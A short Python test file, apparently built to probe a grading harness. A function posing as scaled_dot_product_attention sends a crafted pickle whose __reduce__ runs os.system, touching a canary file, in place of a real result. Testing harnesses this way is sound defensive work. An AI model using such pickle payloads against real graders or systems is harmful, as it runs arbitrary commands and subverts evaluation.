"""Writes a pickle that would run a command, to the channel and in place of a result."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, (f"touch {CANARIES[0]}.owned",)


def scaled_dot_product_attention(*_, **__):
    body = pickle.dumps(Command())
    os.write(3, len(body).to_bytes(8, "little") + body)
    os._exit(0)


# %% scaled_dot_product_attention
scaled_dot_product_attention = scaled_dot_product_attention
